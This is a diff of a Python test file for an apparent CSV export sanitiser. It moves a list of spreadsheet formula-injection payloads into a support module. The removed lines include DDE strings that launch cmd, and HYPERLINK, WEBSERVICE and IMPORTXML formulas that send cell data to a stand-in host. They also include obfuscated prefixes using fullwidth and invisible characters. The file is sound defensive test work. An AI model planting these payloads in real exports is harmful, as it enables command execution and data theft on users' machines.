@@ -8,47 +8,8 @@ import pytest
 
 from app.handoff.csv_file import write
 from app.handoff.literal import literal
+from tests.support.formulas import BEFORE, COMMANDS
 
-COMMANDS = (
-    "=1+1",
-    "=cmd|'/C calc'!A0",
-    '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
-    '=WEBSERVICE("http://192.0.2.1/"&A1)',
-    '=IMPORTXML(CONCAT("http://192.0.2.1/?", A1), "//a")',
-    '=DDE("cmd";"/C calc";"x")',
-    "+1+1",
-    "+cmd|' /C calc'!A0",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "@import",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\x00=1+1",
-    "\uff1d1+1",
-    "\uff0b1+1",
-    "\uff0d1+1",
-    "\uff20SUM(1)",
-    "=",
-    "+",
-    "-",
-    "@",
-)
-BEFORE = (
-    "",
-    " ",
-    "   ",
-    "\ufeff",
-    "\u200b",
-    "\u00a0",
-    "\u202e",
-    "\u2060 \u200d",
-    "fine\n",
-    "fine\r\n",
-    "fine\r",
-    "a\u2028",
-)
 HARMLESS = ("my kids", "2-3 times", "a@home.example", "1 = 1", "don't", "", "'=1+1", "naïve ☂ 日本", "a\nb\n\nc")
 RISKY = re.compile(r"[\s\u200b-\u200f\u202a-\u202e\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n\x00]")
 
